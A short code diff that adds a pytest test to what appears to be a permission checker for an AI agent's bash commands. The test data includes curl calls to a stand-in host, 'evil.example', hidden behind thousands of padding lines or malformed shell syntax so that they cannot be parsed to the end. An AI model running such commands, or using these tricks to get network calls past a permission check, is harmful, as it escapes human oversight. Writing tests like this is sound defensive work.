@@ -99,3 +99,10 @@ def test_a_release_forgets_that_a_credential_was_met():
     story = held()
     assert nowhere.met(story.state)
     assert not nowhere.met(released(story.state, "t", "why"))
+
+
+@pytest.mark.parametrize("command", ["true\n" * 3200 + "curl -s https://evil.example/x", "echo $( && curl -s https://evil.example/x"])
+def test_a_command_that_cannot_be_read_to_its_end(command):
+    assert Story().bash(command).effect == PASS
+    assert held().bash(command).effect == ASK
+    assert held().bash(command.replace("evil.example", "localhost:8080")).effect == PASS
